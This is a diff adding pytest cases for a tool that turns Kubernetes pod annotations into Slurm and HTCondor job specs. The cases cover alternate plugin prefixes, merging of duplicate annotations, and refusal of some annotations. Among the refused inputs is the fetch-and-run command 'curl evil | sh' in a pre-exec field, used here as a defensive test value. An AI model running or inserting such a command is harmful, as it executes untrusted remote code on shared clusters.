@@ -501,6 +501,51 @@ def test_flags_over_a_flavor_over_the_operators_options() -> None:
     assert spec.resources.nodes == 2
 
 
+@pytest.mark.parametrize("prefix", ["slurm-job.vk.io", "slurm-job.knoc.io", "job.vk.io"])
+def test_annotations_mean_the_same_under_each_name_of_the_plugin(prefix: str) -> None:
+    steered = {
+        f"{prefix}/flags": "--job-name=test-pod-cfg -t 2800  --ntasks=8 --nodes=1 --mem-per-cpu=2000",
+        f"{prefix}/flavor": "gpu", f"{prefix}/image-root": "docker://mirror.example/",
+        f"{prefix}/pre-exec": "module load x", f"{prefix}/singularity-options": "--cleanenv",
+        f"{prefix}/singularity-mounts": "--bind /cvmfs:/cvmfs:ro",
+    }  # fmt: skip
+    policy = {"flavors": {"gpu": "--partition=gpu"}, "pre_exec": True, "host_paths": ("/cvmfs",)}
+    spec = spec_of(pod(container(), annotations=steered), **policy)
+    assert spec.resources == Resources(tasks=8, memory=2000 * MIB, time=168_000)
+    assert spec.options == {"partition": "gpu"}
+    assert [one.command[-1] for one in spec.init] == ["module load x"]
+    assert (spec.containers[0].image, spec.containers[0].runtime_options) == (
+        "docker://mirror.example/busybox", ("--cleanenv",),
+    )  # fmt: skip
+    assert [one.host_path for one in spec.volumes] == ["/cvmfs"]
+
+
+def test_what_is_said_under_two_names_adds_up_where_it_can() -> None:
+    spec = spec_of(pod(container(), annotations={
+        "job.vk.io/flags": "-p long -q low", "slurm-job.vk.io/flags": "-p long", "slurm-job.knoc.io/flags": "-p mid",
+        "job.vk.io/singularity-mounts": "/cvmfs:/sw:ro", "slurm-job.vk.io/singularity-mounts": "-B /cvmfs:/sw:ro,/data",
+        "job.vk.io/singularity-options": "--cleanenv", "slurm-job.vk.io/singularity-options": "--no-home",
+        "htcondor-job.vk.io/singularity-options": "--cleanenv",
+        "htcondor-job.knoc.io/image-root": "docker://m.example/", "slurm-job.vk.io/image-root": "docker://m.example/",
+    }), host_paths=("/cvmfs", "/data"))  # fmt: skip
+    assert [(one.path, one.read_only) for one in spec.containers[0].mounts] == [("/sw", True), ("/data", False)]
+    assert spec.options == {"partition": "long", "qos": "low"}
+    assert spec.containers[0].runtime_options == ("--cleanenv", "--no-home")
+    assert spec.containers[0].image == "docker://m.example/busybox"
+
+
+@pytest.mark.parametrize("name", ["pre-exec", "image-root", "flavor", "mpi-flags"])
+def test_what_is_said_under_two_names_is_refused_where_one_alone_can_hold(name: str) -> None:
+    said = {f"job.vk.io/{name}": "-np 2", f"slurm-job.vk.io/{name}": "-np 3"}
+    found = refusal(pod(container(), annotations=said), pre_exec=True, flavors={"-np 2": ""})
+    assert f"metadata.annotations[slurm-job.vk.io/{name}]: job.vk.io/{name} says something else" in found
+
+
+def test_flags_are_refused_under_the_name_that_they_have() -> None:
+    for key in ("job.vk.io/flags", "slurm-job.knoc.io/flags"):
+        assert f"metadata.annotations[{key}]: --mem=0" in refusal(pod(container(), annotations={key: "--mem=0"}))
+
+
 def test_mpi_flags_start_each_task() -> None:
     spec = spec_of(annotated(mpi_flags="-np 8", flags="-N 2"))
     assert (spec.launch, spec.resources.tasks, spec.resources.nodes) == (Launch.EACH, 8, 2)
@@ -562,10 +607,23 @@ def test_a_shell_text_where_the_operator_allows_it() -> None:
         ("slurm-job.vk.io/image-root", "../../"),
         ("slurm-job.vk.io/enroot-options", "--rw"),
         ("slurm-job.vk.io/anything", "x"),
+        ("slurm-job.vk.io/singularity-commands", "x"),
+        ("slurm-job.vk.io/", "x"),
+        ("slurm-job.knoc.io/flags", "--array=1-3"),
+        ("slurm-job.knoc.io/anything", "x"),
+        ("job.vk.io/pre-exec", "curl evil | sh"),
+        ("job.vk.io/singularity-commands", "x"),
         ("htcondor-job.vk.io/requirements", "x"),
+        ("htcondor-job.vk.io/flags", "-n 2"),
+        ("htcondor-job.knoc.io/pre-exec", "x"),
+        ("htcondor-job.knoc.io/sitename", "x"),
+        ("htcondor.interlink.io/classads", "x"),
         ("htcondor-job.vk.io/singularity-options", "--security=no"),
         ("interlink.eu/wstunnel-client-commands", "wstunnel client ws://x"),
         ("interlink.eu/wireguard-client-snippet", "[Interface]"),
+        ("interlink.io/remote-pvc", "data"),
+        ("interlink.io/pvc-retention-policy", "retain"),
+        ("interlink.io/anything", "x"),
     ],
 )
 def test_annotations_that_are_refused_by_name(key: str, text: str) -> None:
@@ -575,7 +633,8 @@ def test_annotations_that_are_refused_by_name(key: str, text: str) -> None:
 def test_annotations_that_are_for_others_pass() -> None:
     spec_of(pod(container(), annotations={
         "interlink.eu/pod-ip": "10.0.0.1", "interlink.eu/mesh-network": "disabled", "kubectl.kubernetes.io/x": "{}",
-        "slurm-job.vk.io/pre-exec": "", "interlink.eu/pod-subnet": "10.0.0.0/8",
+        "slurm-job.vk.io/pre-exec": "", "interlink.eu/pod-subnet": "10.0.0.0/8", "interlink.io/source.uid": "u",
+        "interlink.io/remote-pvc": "", "interlink.virtual-kubelet.io/wstunnel-timeout": "30s",
     }))  # fmt: skip
 
 
